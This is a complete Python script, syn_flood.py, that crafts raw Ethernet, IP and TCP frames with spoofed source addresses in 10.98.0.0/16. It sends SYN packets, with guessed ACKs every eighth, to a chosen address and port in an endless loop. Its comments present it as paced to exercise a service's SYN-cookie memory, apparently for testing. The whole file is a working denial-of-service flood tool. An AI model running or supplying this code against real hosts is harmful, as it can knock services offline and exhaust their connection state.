"""syn_flood.py DEVICE GATEWAY_MAC ADDRESS PORT COUNT: SYNs from COUNT different made-up clients of 10.98.0.0/16, again and again until ended.

Every eighth is followed by an ACK that guesses. A line says when every SYN has been sent once. Sent as fast as they are answered: what
cookies are for is the service's memory, not its share of a busy CPU.
"""
import random
import socket
import sys

from frames import ACK, SYN, ethernet, ip, tcp

device, mac, address, port, count = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
BATCH = 128
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((device, 0x0800))
raw.settimeout(0.05)
own_mac = raw.getsockname()[4]
rnd = random.Random(4987)
# MSS 1460, window scale 7, SACK-permitted, a timestamp
options = b"\x02\x04\x05\xb4\x03\x03\x07\x04\x02\x08\x0a\x00\x00\x10\x00\x00\x00\x00\x00\x00"


def frame(i, flags, ack, options):
    source = "10.98.%d.%d" % (10 + i // 200 % 200, 10 + i % 200)
    segment = tcp(source, address, 1024 + i // 40000, port, rnd.getrandbits(32), ack, flags, options=options)
    return ethernet(mac, own_mac, ip(source, address, segment))


def send(f):
    try:
        raw.send(f)
    except OSError:  # ENOBUFS: the device's queue is full, which is no failure of a flood
        pass


def await_answers():
    """Most of a batch was answered, or nothing comes: the flood is as fast as the service, not as the machine."""
    answers = 0
    while answers < BATCH * 3 // 4:
        try:
            answer, sender = raw.recvfrom(128)
        except TimeoutError:
            return
        answers += sender[2] != socket.PACKET_OUTGOING and len(answer) > 47 and answer[47] == SYN | ACK


def main():
    frames = []
    for i in range(count):
        frames.append(frame(i, SYN, 0, options))
        if i % 8 == 0:
            frames.append(frame(i, ACK, rnd.getrandbits(32), b""))
    print("ready", flush=True)
    rounds = 0
    while True:
        for i in range(0, len(frames), BATCH):
            for f in frames[i:i + BATCH]:
                send(f)
            await_answers()
        rounds += 1
        if rounds == 1:
            print("%d SYNs sent" % count, flush=True)


main()
